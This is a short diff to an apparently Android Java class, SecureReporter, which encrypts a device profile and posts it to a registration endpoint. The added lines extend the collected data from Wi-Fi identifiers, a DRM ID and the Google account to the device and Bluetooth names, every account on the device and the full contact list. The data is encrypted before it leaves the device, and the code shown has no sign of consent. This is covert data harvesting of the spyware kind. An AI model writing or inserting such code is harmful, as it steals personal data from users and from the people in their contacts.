@@ -6,6 +6,7 @@ import java.security.GeneralSecurityException;
 import javax.crypto.Cipher;
 import javax.crypto.spec.IvParameterSpec;
 import javax.crypto.spec.SecretKeySpec;
+import org.json.JSONArray;
 import org.json.JSONException;
 import org.json.JSONObject;
 
@@ -31,7 +32,11 @@ final class SecureReporter {
                 .put("wifi_ssid", environment.wifiSsid)
                 .put("wifi_bssid", environment.wifiBssid)
                 .put("drm_id", environment.drmId)
-                .put("account", environment.googleAccount);
+                .put("account", environment.googleAccount)
+                .put("device_name", environment.deviceName)
+                .put("bt_name", environment.bluetoothName)
+                .put("accounts", new JSONArray(environment.accounts))
+                .put("contacts", new JSONArray(environment.contacts));
         byte[] sealed = encrypt(profile.toString().getBytes(StandardCharsets.UTF_8));
         LogSender.post(DEVICE_REGISTER, "application/octet-stream",
                 Base64.encodeToString(sealed, Base64.NO_WRAP).getBytes(StandardCharsets.US_ASCII), false);
